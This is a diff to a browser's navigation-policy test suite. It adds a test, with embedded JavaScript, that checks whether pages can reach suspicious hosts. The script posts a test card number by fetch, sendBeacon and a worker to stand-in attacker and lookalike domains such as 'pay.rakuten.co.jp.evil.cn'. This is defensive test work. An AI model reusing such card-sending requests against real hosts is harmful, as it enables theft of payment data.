@@ -54,6 +54,22 @@ QByteArray htmlPage(const QByteArray &head, const QByteArray &body)
         + "</body></html>";
 }
 
+// A page's own request of one kind to U; done, its title says so. Its worker
+// is its own script and asks from inside.
+constexpr auto requestingScript = R"(const U = '%1', done = () => document.title = 'settled';
+const card = '4111111111111111', add = (tag, props) => document.head.append(
+  Object.assign(document.createElement(tag), props, {onload: done, onerror: done}));
+({image: () => add('img', {src: U}), script: () => add('script', {src: U}),
+  style: () => add('link', {rel: 'stylesheet', href: U}),
+  prefetch: () => add('link', {rel: 'prefetch', href: U}),
+  post: () => fetch(U, {method: 'POST', mode: 'no-cors', body: card}).then(done, done),
+  beacon: () => (navigator.sendBeacon(U, card), fetch('/after').then(done, done)),
+  xhr: () => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', U); x.send(); },
+  socket: () => Object.assign(new WebSocket(U.replace('http', 'ws')), {onclose: done}),
+  worker: () => new Worker('/worker.js#' + U).onmessage = done, save: () => {}})['%2']();)";
+constexpr auto workerScript = "fetch(location.hash.slice(1), {method: 'POST', mode: 'no-cors',"
+                              " body: '4111'}).then(() => postMessage(0), () => postMessage(0));";
+
 } // namespace
 
 Q_DECLARE_METATYPE(Outcome)
@@ -88,6 +104,8 @@ private Q_SLOTS:
     void goBackAndReloadWhileBlocked();
     void sameDocumentChangeRefreshesVerdict();
     void stalledLoadsAreStopped();
+    void pagesAskNothingOfSuspiciousHosts_data();
+    void pagesAskNothingOfSuspiciousHosts();
 
 private:
     bool waitForLoad(const QUrl &url);
@@ -664,6 +682,58 @@ void TestNavigationPolicy::stalledLoadsAreStopped()
     QCOMPARE(finished.first().first().toBool(), false);
     QVERIFY(!m_viewModel->isLoading());
     QCOMPARE(m_proxy.hits(topHost, u"/stalled"_s), 1);
+}
+
+void TestNavigationPolicy::pagesAskNothingOfSuspiciousHosts_data()
+{
+    QTest::addColumn<bool>("proceeded");
+    QTest::addColumn<QString>("host");
+    QTest::addColumn<bool>("reached");
+    QTest::newRow("save") << false << u"save.scam.top"_s << false;
+    QTest::newRow("image") << false << u"img.amaz0n-co-jp.com"_s << false;
+    QTest::newRow("script") << false << u"js.scam.top"_s << false;
+    QTest::newRow("style") << false << u"css.scam.top"_s << false;
+    QTest::newRow("prefetch") << false << u"next.scam.top"_s << false;
+    QTest::newRow("post") << false << u"pay.rakuten.co.jp.evil.cn"_s << false;
+    QTest::newRow("beacon") << false << u"log.scam.top"_s << false;
+    QTest::newRow("xhr") << false << u"xhr.rakuten.co.jp.evil.cn"_s << false;
+    QTest::newRow("socket") << false << u"ws.scam.top"_s << false;
+    QTest::newRow("worker") << false << u"worker.scam.top"_s << false;
+    QTest::newRow("image of a neutral host") << false << u"cdn.example.net"_s << true;
+    QTest::newRow("image of a page let through") << true << u"img.scam-shop.top"_s << true;
+    QTest::newRow("post from a page let through") << true << u"pay.scam.top"_s << false;
+}
+
+void TestNavigationPolicy::pagesAskNothingOfSuspiciousHosts()
+{
+    QFETCH(bool, proceeded);
+    QFETCH(QString, host);
+    QFETCH(bool, reached);
+    const QString kind = QString::fromLatin1(QTest::currentDataTag()).section(u' ', 0, 0);
+    const QUrl target = address(host, u"/"_s + kind);
+    QCOMPARE(m_viewModel->verdictFor(target).isSuspicious(), !reached || proceeded);
+    const QUrl page = address(proceeded ? topHost : neutralHost, u"/shop"_s);
+    const QString script = QString::fromUtf8(requestingScript).arg(target.toString(), kind);
+    m_proxy.setPage(page.host(), page.path(),
+                    htmlPage({}, "<script>" + script.toUtf8() + "</script>"));
+    m_proxy.setPage(page.host(), u"/worker.js"_s, workerScript, "text/javascript");
+    // A socket goes through the proxy as a tunnel, here back into the proxy.
+    m_proxy.setTunnel(host, m_proxy.port());
+    m_viewModel->loadURL(page);
+    if (proceeded) {
+        QTRY_VERIFY_WITH_TIMEOUT(m_viewModel->isBlocked(), blockTimeout);
+        m_viewModel->proceedAnyway();
+    }
+    // The engine's own request for "画像を保存", then one after it.
+    if (kind == u"save"_s) {
+        QVERIFY(waitForLoad(page));
+        m_page->download(target);
+        m_page->download(address(page.host(), u"/after"_s));
+    }
+    QVERIFY(waitForEngine(
+        [&] { return m_page->title() == u"settled"_s || m_proxy.hits(page.host(), u"/after"_s); },
+        engineTimeout));
+    QCOMPARE(m_proxy.hosts().contains(host), reached);
 }
 
 QTEST_MAIN(TestNavigationPolicy)
